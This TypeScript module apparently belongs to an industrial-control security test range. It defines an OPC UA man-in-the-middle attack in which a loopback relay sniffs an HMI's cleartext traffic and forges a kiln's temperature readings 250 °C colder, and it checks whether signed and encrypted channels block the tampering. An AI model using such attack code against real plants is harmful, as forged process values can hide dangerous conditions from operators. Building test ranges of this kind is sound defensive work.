/**
 * Adversary in the middle on OPC UA: a relay on loopback between a victim HMI (run by the
 * attack: a client polling a kiln zone temperature, set up with the strongest endpoint the
 * server offers) and the server. On a channel without security the relay reads everything
 * (node ids, values, the identity the session activates with) and rewrites the temperature in
 * every Read response, so the HMI shows a kiln 250 °C colder than the line's: the operator's
 * view is forged. On a SignAndEncrypt channel it reads nothing, and a rewritten message fails
 * the victim's signature check: the connection fails instead of showing a forged value.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { round, trail } from './common.ts';

/** how much colder the forged reading is [°C] */
const COLDER = 250;
/** the HMI's polls */
const POLLS = 3;
const POLL_MS = 300;

export const opcuaMitm: Attack = {
  id: 'opcua-mitm',
  title: `OPC UA adversary in the middle: a relay reads the HMI's traffic and forges the kiln temperature it shows (${COLDER} °C colder)`,
  techniques: [T.adversaryInTheMiddle, T.networkSniffing, T.spoofReportingMessage],
  face: 'opcua',
  preconditions: ['a position on the path between an HMI and the server (here: the HMI is pointed at the attacker\'s relay on loopback)', 'the kiln\'s node ids (opcua-browse)'],
  steps: [
    'start a relay on 127.0.0.1 that forwards every chunk to the server and back',
    'the victim HMI connects through it and polls <station>.t1 (zone 1 temperature)',
    `on a None channel: note what is readable (node ids, values, logins) and rewrite the temperature in each Read response ${COLDER} °C lower`,
    'on a secured channel: flip a byte of each secured message from the server (the blind rewrite)',
    'compare what the HMI showed with the line\'s own value',
  ],
  expectedImpact: `the HMI shows the zone ${COLDER} °C colder than it is (a forged process view), and the tags and values it reads travel in clear`,
  async run(ctx) {
    // the client libraries load on demand, so `attack list` answers at once
    const { hmiReads } = await import('../clients/opcua.ts');
    const { startRelay } = await import('../clients/relay.ts');
    const evidence: string[] = [];
    const node = `${ctx.station}.t1`;
    const relay = await startRelay(ctx.target, { node, forge: (v) => round(v - COLDER, 3) });
    ctx.atEnd(() => relay.close());
    evidence.push(`relay: listening on ${relay.url}, forwarding to ${ctx.target.host} only`);
    const seen = await hmiReads(ctx, relay.url, node, POLLS, POLL_MS);
    const line = ctx.observer === null ? null : (await ctx.observer.station(ctx.station)).tags.t1 ?? null;
    await relay.close();
    const log = relay.log;
    evidence.push(`victim HMI: ${seen.channel} through the relay; read ${node}: ${seen.values.length > 0 ? seen.values.map((v) => round(v, 1)).join(', ') : 'nothing'}${seen.failure === null ? '' : `; failed: ${seen.failure}`}`);
    evidence.push(`relay: channels with policy ${log.policies.join(', ') || '(none opened)'}; ${log.chunks} chunks forwarded`);
    evidence.push(log.readable.length > 0 ? `relay: read in clear: ${log.readable.join('; ')}` : 'relay: nothing readable in clear');
    if (log.rewritten.length > 0) evidence.push(`relay: rewrote ${node} ${log.rewritten.map(([a, b]) => `${round(a, 1)} → ${round(b, 1)}`).join(', ')}`);
    if (log.tampered > 0) evidence.push(`relay: flipped a byte in ${log.tampered} secured message(s) from the server`);
    if (line !== null) evidence.push(`range: the line's ${node} = ${round(line, 1)} °C`);
    // forged: the HMI showed the relay's values, far from the line's own
    const shown = seen.values[seen.values.length - 1] ?? null;
    const forged = log.rewritten.length > 0 && shown !== null && (line === null || Math.abs(line - shown) > COLDER / 2);
    await trail(ctx, evidence, !forged);
    return {
      outcome: forged ? 'succeeded' : 'blocked',
      evidence,
      impact: {
        node, hmiChannel: seen.channel, hmiShowed: shown === null ? null : round(shown, 1), lineValue: line === null ? null : round(line, 1),
        forged, rewrites: log.rewritten.length, readableInClear: log.readable, tamperedSecured: log.tampered, hmiFailure: seen.failure,
      },
    };
  },
  async cleanup() {
    // nothing on the line changed: the relay and the HMI end with the run
  },
};
